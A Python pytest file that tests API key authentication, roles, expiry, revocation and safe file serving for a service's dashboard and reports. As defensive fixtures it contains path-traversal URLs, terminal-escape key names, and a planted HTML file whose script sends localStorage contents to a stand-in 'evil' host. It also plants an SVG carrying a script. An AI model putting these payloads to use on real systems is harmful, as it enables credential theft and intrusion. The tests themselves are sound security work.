"""API keys and roles: every /v1 endpoint needs a key, writes an operator, decisions an approver."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session, select

from advisor.auth import Role, parse_key_id
from advisor.keys import create_api_key, revoke_api_key
from advisor.records import ApiKey
from tests.advisor.conftest import FINETWIN, advisor_settings
from tests.conftest import api_app
from twin.db import engine_from_settings

REPO = Path(__file__).resolve().parents[2]
OPEN_PATHS = ("/healthz", "/metrics", "/openapi.json", "/docs")


def test_reads_need_any_key_and_open_paths_stay_open(client: TestClient, keys: dict) -> None:
    assert client.get("/v1/jobs").status_code == 401
    assert client.get("/v1/cluster", headers={"X-API-Key": "ft_nope_nope"}).status_code == 401
    for role in ("viewer", "operator", "approver"):
        assert client.get("/v1/jobs", headers=keys[role]).status_code == 200
        assert client.get("/v1/cluster", headers=keys[role]).status_code == 200
    for path in OPEN_PATHS:
        assert client.get(path).status_code == 200, path


def test_a_missing_key_says_which_header(client: TestClient) -> None:
    response = client.get("/v1/audit")
    assert response.status_code == 401
    assert "X-API-Key" in response.json()["detail"]


def test_the_key_may_come_as_a_bearer_token(client: TestClient, keys: dict) -> None:
    """`Authorization: Bearer <key>` is the same key: its role is checked, a wrong one refused, and the
    OpenAPI document offers either header."""

    def bearer(role: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {keys[role]['X-API-Key']}"}

    assert client.get("/v1/jobs", headers=bearer("viewer")).status_code == 200
    assert client.post("/v1/recommendations/run", headers=bearer("viewer")).status_code == 403
    missing = "/v1/recommendations/does-not-exist/approve"
    assert client.post(missing, json={}, headers=bearer("approver")).status_code == 404
    assert client.get("/v1/jobs", headers={"Authorization": "Bearer ft_nope_nope"}).status_code == 401
    basic = client.get("/v1/jobs", headers={"Authorization": f"Basic {keys['viewer']['X-API-Key']}"})
    assert basic.status_code == 401 and "Authorization: Bearer" in basic.json()["detail"]
    # It was sent under another scheme: said so, not "missing API key" as if nothing had come.
    assert basic.json()["detail"].startswith("the Authorization header's scheme is 'Basic'"), basic.json()
    nothing = client.get("/v1/jobs").json()["detail"]
    assert nothing.startswith("missing API key: send it in the X-API-Key header"), nothing
    # X-API-Key is read first: a viewer key there is not raised to an approver's by the bearer token.
    both = {**keys["viewer"], **bearer("approver")}
    assert client.post(missing, json={}, headers=both).status_code == 403
    operation = client.get("/openapi.json").json()["paths"]["/v1/jobs"]["get"]
    assert {name for requirement in operation["security"] for name in requirement} == {
        "APIKeyHeader",
        "HTTPBearer",
    }
    assert all(len(requirement) == 1 for requirement in operation["security"])  # either, not both


def test_every_write_endpoint_refuses_without_a_key(client: TestClient, keys: dict) -> None:
    """Walk the OpenAPI document: no non-GET operation anywhere accepts a request without a key."""
    spec = client.get("/openapi.json").json()
    writes = [
        (path, method)
        for path, operations in spec["paths"].items()
        for method in operations
        if method.upper() not in ("GET", "HEAD", "OPTIONS")
    ]
    assert writes, "expected some write endpoints"
    for path, method in writes:
        assert path.startswith("/v1/"), f"{method.upper()} {path} is outside /v1 and so not protected"
        url = path.replace("{", "").replace("}", "")  # any id will do: the key is checked first
        response = client.request(method.upper(), url, json={})
        assert response.status_code == 401, (method, path, response.status_code)


def test_roles_are_ordered_and_checked_before_the_lookup(client: TestClient, keys: dict) -> None:
    missing = "/v1/recommendations/does-not-exist/approve"
    assert client.post(missing, json={}).status_code == 401
    assert client.post(missing, json={}, headers=keys["viewer"]).status_code == 403
    assert client.post(missing, json={}, headers=keys["operator"]).status_code == 403
    assert client.post(missing, json={}, headers=keys["approver"]).status_code == 404
    reject = "/v1/recommendations/does-not-exist/reject"
    assert client.post(reject, json={"comment": "no"}, headers=keys["operator"]).status_code == 403
    # A viewer may not write (steering run is an operator's write).
    assert client.post("/v1/recommendations/run", headers=keys["viewer"]).status_code == 403


def test_keys_are_stored_hashed(engine: Engine) -> None:
    key = create_api_key(engine, Role.OPERATOR, name="ops", actor="test")
    with Session(engine) as session:
        row = session.exec(select(ApiKey).where(ApiKey.key_id == parse_key_id(key))).one()
    assert key not in (row.key_hash, row.name, row.key_id)
    assert row.key_hash == hashlib.sha256(key.encode()).hexdigest()
    assert row.role == "operator"


def test_a_revoked_key_stops_working(engine: Engine, tmp_path: Path) -> None:
    app = api_app(advisor_settings(tmp_path, auth_cache_seconds=0), engine)
    key = create_api_key(engine, Role.VIEWER, name="temp", actor="test")
    with TestClient(app) as client:
        assert client.get("/v1/jobs", headers={"X-API-Key": key}).status_code == 200
        assert revoke_api_key(engine, parse_key_id(key) or "", actor="test")
        assert client.get("/v1/jobs", headers={"X-API-Key": key}).status_code == 401
        assert not revoke_api_key(engine, parse_key_id(key) or "", actor="test")


def test_keys_create_prints_the_key_alone_and_it_works(tmp_path: Path) -> None:
    env = {**os.environ, "FINETWIN_DATA_DIR": str(tmp_path / "data"), "FINETWIN_DATABASE_URL": ""}
    finetwin = FINETWIN
    done = subprocess.run(
        [*finetwin, "keys", "create", "--role", "approver", "--name", "alice"],
        capture_output=True, text=True, env=env, cwd=REPO, timeout=120, check=True,
    )  # fmt: skip
    lines = done.stdout.splitlines()
    assert len(lines) == 1 and parse_key_id(lines[0]) is not None, done.stdout
    listed = subprocess.run(
        [*finetwin, "keys", "list"], capture_output=True, text=True, env=env, cwd=REPO, timeout=120
    )
    assert "alice" in listed.stdout and "approver" in listed.stdout and lines[0] not in listed.stdout
    bad = subprocess.run(
        [*finetwin, "keys", "create", "--role", "admin"], capture_output=True, text=True, env=env, cwd=REPO
    )
    assert bad.returncode != 0 and "admin" in bad.stderr
    settings = advisor_settings(tmp_path)
    with TestClient(api_app(settings, engine_from_settings(settings))) as client:
        assert client.get("/v1/audit", headers={"X-API-Key": lines[0]}).status_code == 200


def test_names_are_printed_as_they_are_never_as_markup_or_terminal_codes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A key named `[/bold] x` made every later `keys list` end in a rich MarkupError traceback (as a GPU
    named so in telemetry did `finetwin forecast`); `deploy-bot [prod]` lost its `[prod]`; an escape sequence
    in a name reached the terminal."""
    from finetwin.cli import main

    monkeypatch.setenv("FINETWIN_DATA_DIR", str(tmp_path / "data"))
    names = ["[/bold] x [red]RED", "deploy-bot [prod]", "red\x1b[31mtext"]
    for name in names:
        assert main(["keys", "create", "--role", "viewer", "--name", name]) == 0
    capsys.readouterr()
    assert main(["keys", "list"]) == 0
    listed = capsys.readouterr().out
    assert "[/bold] x [red]RED" in listed and "deploy-bot [prod]" in listed, listed
    assert "\x1b" not in listed and "red\\x1b[31mtext" in listed, listed
    # An empty name became "viewer key" without a word: it is refused, and no key is made.
    for empty in ("", "   "):
        assert main(["keys", "create", "--role", "viewer", "--name", empty]) == 2
        assert "--name is empty" in capsys.readouterr().err
    assert main(["keys", "list"]) == 0
    assert capsys.readouterr().out.count("viewer key") == 0


@pytest.mark.parametrize(
    ("name", "said"),
    [("x" * 201, "--name is 201 characters long: at most 200"), ("bot\x00", "--name holds a character")],
    ids=["long", "nul"],
)
def test_a_key_name_the_store_cannot_hold_is_refused_before_any_key_is_made(
    engine: Engine, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str, said: str
) -> None:
    """On PostgreSQL each was a traceback from the database (a value too long for varchar(200); NUL in
    text); SQLite kept the long one."""
    from finetwin.cli import main

    monkeypatch.setenv("FINETWIN_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    assert main(["keys", "create", "--role", "viewer", "--name", name]) == 2
    error = capsys.readouterr().err
    assert said in " ".join(error.split()) and "Traceback" not in error, error
    assert main(["keys", "create", "--role", "viewer", "--name", "y" * 200]) == 0  # the bound itself
    capsys.readouterr()
    assert main(["keys", "list", "--json"]) == 0
    assert [k["name"] for k in json.loads(capsys.readouterr().out)] == ["y" * 200]


def test_the_dashboard_is_open_and_serves_only_its_own_files(client: TestClient) -> None:
    page = client.get("/")
    assert page.status_code == 200 and "chart.umd.min.js" in page.text and "/static/app.js" in page.text
    chart = client.get("/static/vendor/chart.umd.min.js")
    assert chart.status_code == 200 and "Chart.js" in chart.text[:200]
    for path in (
        "/static/../auth.py",
        "/static/%2e%2e/auth.py",
        "/static/vendor/../../tables.py",
        "/static/nope.js",
    ):
        assert client.get(path).status_code == 404, path
    assert client.get("/v1/reports/latest").status_code == 401
    assert client.get("/reports/latest/").status_code == 404  # no report yet


def test_the_latest_report_is_linked_and_served_read_only(engine: Engine, tmp_path: Path, keys: dict) -> None:
    from types import SimpleNamespace

    from calibrate.report.latest import record_latest, reports_root

    settings = advisor_settings(tmp_path)
    out = tmp_path / "report-1"
    (out / "figures").mkdir(parents=True)
    (out / "report.md").write_text("# Characterization\n")
    (out / "figures" / "q1.png").write_bytes(b"\x89PNG\r\n")
    (tmp_path / "secret.md").write_text("not yours")
    report = SimpleNamespace(
        out_dir=out, report_md=out / "report.md", numbers_json=out / "numbers.json",
        figures={"q1": out / "figures" / "q1.png"}, generated_at="2026-11-29T12:00:00Z", source="sample",
    )  # fmt: skip
    record_latest(report, reports_root(settings))
    with TestClient(api_app(settings, engine)) as client:
        info = client.get("/v1/reports/latest", headers=keys["viewer"]).json()
        assert info["available"] and info["url"] == "/reports/latest/"
        page = client.get(info["url"])
        # A page, not the Markdown's text (which a browser showed raw); the Markdown is still there.
        assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
        assert "<h1>Characterization</h1>" in page.text
        assert "<title>Characterization report: sample</title>" in page.text
        policy = page.headers["content-security-policy"]
        assert "sandbox" in policy and "script-src" not in policy and "'unsafe-inline'" not in policy
        assert client.get("/reports/latest/report.md").text.startswith("# Characterization")
        assert client.get("/reports/latest/figures/q1.png").headers["content-type"] == "image/png"
        assert client.get("/reports/latest/../secret.md").status_code == 404
        assert client.get("/reports/latest/%2e%2e/secret.md").status_code == 404


def test_only_the_files_the_report_wrote_are_served_and_none_runs(
    engine: Engine, tmp_path: Path, keys: dict
) -> None:
    """Any .html/.md/.json/.csv under the report's directory was served, an HTML file running on the
    dashboard's origin (where the key is stored); now only the report's own files, shown, never run."""
    from types import SimpleNamespace

    from calibrate.report.latest import record_latest, reports_root

    settings = advisor_settings(tmp_path)
    out = tmp_path / "report-1"
    (out / "figures").mkdir(parents=True)
    (out / "report.md").write_text("# Characterization\n")
    (out / "numbers.json").write_text("{}\n")
    (out / "figures" / "q1.png").write_bytes(b"\x89PNG\r\n")
    planted = {
        "steal.html": "<script>fetch('//evil/'+localStorage.key(0))</script>",
        "notes.md": "not the report's",
        "rows.csv": "a,b\n",
        "figures/q2.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    }
    for name, text in planted.items():
        (out / name).write_text(text)
    report = SimpleNamespace(
        out_dir=out, report_md=out / "report.md", numbers_json=out / "numbers.json",
        figures={"q1": out / "figures" / "q1.png", "q2": out / "figures" / "q2.svg", "none": None},
        generated_at="2026-11-29T12:00:00Z", source="sample",
    )  # fmt: skip
    record_latest(report, reports_root(settings))
    with TestClient(api_app(settings, engine)) as client:
        for name in planted:  # q2.svg is even in the pointer: an SVG may carry a script, so never
            assert client.get(f"/reports/latest/{name}").status_code == 404, name
        for name, media in (("report.md", "text/plain"), ("numbers.json", "application/json"),
                            ("figures/q1.png", "image/png")):  # fmt: skip
            served = client.get(f"/reports/latest/{name}")
            assert served.status_code == 200 and served.headers["content-type"].startswith(media), name
            assert "sandbox" in served.headers["content-security-policy"]
            assert served.headers["x-content-type-options"] == "nosniff"
        for page in ("/", "/static/app.js"):
            policy = client.get(page).headers["content-security-policy"]
            assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy, page


def test_finetwin_up_hands_out_a_first_key_once(tmp_path: Path) -> None:
    """`up` makes an approver key on a store without any (its banner prints it), and none on one with keys."""
    from advisor.keys import ensure_first_key
    from finetwin.wiring import api_app as wired_app
    from finetwin.wiring import api_parts, migrated_engine

    settings = advisor_settings(tmp_path)
    engine = migrated_engine(settings)
    key = ensure_first_key(engine)
    assert key is not None and parse_key_id(key) is not None
    parts = api_parts(settings, engine, kafka_bootstrap="127.0.0.1:1")
    assert parts.outbox_relay is not None and parts.outbox_relay.channel.bootstrap == "127.0.0.1:1"  # type: ignore[attr-defined]
    assert ensure_first_key(engine) is None  # a store with keys gets no new one
    with TestClient(wired_app(api_parts(settings, engine))) as client:
        assert client.get("/v1/recommendations", headers={"X-API-Key": key}).status_code == 200


@pytest.mark.parametrize(
    ("cluster", "said"),
    [("", "--cluster is empty"), ("c" * 201, "--cluster is 201 characters long: at most 200"),
     ("lab\x00", "--cluster holds a character")],
    ids=["empty", "long", "nul"],
)  # fmt: skip
def test_keys_create_for_one_cluster_lists_it_and_refuses_a_cluster_no_api_can_serve(
    engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    cluster: str,
    said: str,
) -> None:
    """`--cluster` names the one cluster whose API takes the key (`keys list` shows it, `(every)` for the
    rest); one that FINETWIN_CLUSTER_ID could not be is refused before any key is made."""
    from finetwin.cli import main

    monkeypatch.setenv("FINETWIN_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    assert main(["keys", "create", "--role", "operator", "--cluster", cluster]) == 2
    error = capsys.readouterr().err
    assert said in " ".join(error.split()) and "Traceback" not in error, error
    assert main(["keys", "create", "--role", "operator", "--name", "lab ops", "--cluster", "lab-a"]) == 0
    assert main(["keys", "create", "--role", "viewer", "--name", "reader"]) == 0
    capsys.readouterr()
    assert main(["keys", "list", "--json"]) == 0
    listed = {key["name"]: key["cluster_id"] for key in json.loads(capsys.readouterr().out)}
    assert listed == {"lab ops": "lab-a", "reader": None}
    assert main(["keys", "list"]) == 0
    table = capsys.readouterr().out
    assert "lab-a" in table and "(every)" in table, table


def test_a_key_stops_at_its_expiry_even_while_cached(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`finetwin keys create --expires-in 90d`: the API takes the key until its time, then answers 401 saying
    when it expired, also for a key its cache verified a moment before. A key without one works as ever."""
    import advisor.auth

    now = datetime.now(UTC)
    expires = now + timedelta(hours=1)
    temporary = create_api_key(engine, Role.VIEWER, name="contractor", actor="test", expires_at=expires)
    lasting = create_api_key(engine, Role.VIEWER, name="staff", actor="test")
    with TestClient(api_app(advisor_settings(tmp_path), engine)) as client:
        assert client.get("/v1/cluster", headers={"X-API-Key": temporary}).status_code == 200  # now cached

        class Later(datetime):
            @classmethod
            def now(cls, tz: Any = None) -> datetime:  # type: ignore[override]
                return expires + timedelta(seconds=1)

        monkeypatch.setattr(advisor.auth, "datetime", Later)
        refused = client.get("/v1/cluster", headers={"X-API-Key": temporary})
        assert refused.status_code == 401, refused.text
        assert (
            refused.json()["detail"]
            == f"this key expired at {expires:%Y-%m-%d %H:%M:%S} UTC: ask for a new one"
        )
        assert client.get("/v1/cluster", headers={"X-API-Key": lasting}).status_code == 200
        entries = client.get("/v1/audit", headers={"X-API-Key": lasting}).json()["entries"]
    assert f"contractor (expires {expires:%Y-%m-%d %H:%M:%S} UTC)" in [e["reason"] for e in entries]


@pytest.mark.parametrize(
    ("given", "said"),
    [("soon", "--expires-in: not a duration: 'soon'"), ("0", "--expires-in: a duration must be positive"),
     ("100000000d", "--expires-in: '100000000d' is too far ahead")],
)  # fmt: skip
def test_keys_create_sets_an_expiry_and_refuses_one_that_is_not(
    engine: Engine, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], given: str, said: str
) -> None:
    from finetwin.cli import main

    monkeypatch.setenv("FINETWIN_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    assert main(["keys", "create", "--role", "viewer", "--expires-in", given]) == 2
    assert said in capsys.readouterr().err
    before = datetime.now(UTC)
    assert main(["keys", "create", "--role", "viewer", "--name", "for 90 days", "--expires-in", "90d"]) == 0
    assert main(["keys", "create", "--role", "viewer", "--name", "for good"]) == 0
    capsys.readouterr()
    assert main(["keys", "list", "--json"]) == 0
    listed = {key["name"]: key["expires_at"] for key in json.loads(capsys.readouterr().out)}
    assert listed["for good"] is None
    expiry = datetime.fromisoformat(listed["for 90 days"])
    assert before + timedelta(days=90) <= expiry <= datetime.now(UTC) + timedelta(days=90)
